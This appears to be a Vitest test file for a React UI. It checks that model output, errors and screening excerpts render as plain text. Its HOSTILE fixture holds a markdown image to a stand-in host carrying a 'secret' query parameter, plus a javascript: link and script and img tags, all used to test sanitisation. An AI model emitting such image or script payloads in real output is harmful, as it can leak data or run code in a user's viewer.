// What models and receivers write, where it is drawn: no image is loaded, nothing of it is a link until its host is listed, and no markup of theirs comes to life.
import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { Tooltip } from 'radix-ui';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { ReasonList } from './reason-list';
import { sampleAttempt, sampleStep } from './sample-step';
import { StepAttempts } from './step-attempts';
import { StepInputOutput } from './step-input-output';
import { UntrustedNote } from './untrusted-note';

const HOSTILE = [
  '![logo](https://evil.test/a.png?d=secret)',
  '[click](https://evil.test/)',
  '<img src="https://evil.test/b.png"><a href="javascript:alert(1)">x</a><script>alert(1)</script>',
  'https://evil.test/plain',
].join('\n');
const error = {
  code: 'contract_broken',
  message: HOSTILE,
  class: 'fatal',
  misfit: { [HOSTILE]: HOSTILE },
} as const;
const screening = { removed: {}, suspicions: [{ rule: 'markdown_image' as const, excerpt: HOSTILE }] };

describe('words of others', () => {
  it.each([
    [
      'of a model',
      <StepInputOutput key="1" step={sampleStep({ kind: 'model', result: null, text: HOSTILE })} />,
    ],
    ['of a result', <StepInputOutput key="2" step={sampleStep({ result: { [HOSTILE]: [HOSTILE] } })} />],
    ['of a plain result', <StepInputOutput key="3" step={sampleStep({ kind: 'finish', result: HOSTILE })} />],
    [
      'of an error',
      <StepAttempts key="4" step={sampleStep({ attempts: [sampleAttempt(1, 1, 2, { error })] })} />,
    ],
    ['of a reason', <ReasonList key="5" reasons={[{ rule: 'r', verdict: 'deny', message: HOSTILE }]} />],
    ['of what was suspected', <UntrustedNote key="6" step={sampleStep({ tainted: true, screening })} />],
  ])('%s stay text', (_name, drawn) => {
    const markup = renderToStaticMarkup(
      <QueryClientProvider client={new QueryClient()}>
        <Tooltip.Provider>{drawn}</Tooltip.Provider>
      </QueryClientProvider>,
    );
    expect(markup).toContain('evil.test');
    expect(markup).not.toMatch(/<(img|script|iframe)\b/i);
    expect(markup).not.toMatch(/<a\b[^>]*href="(?!\/[a-z])/i);
  });
});
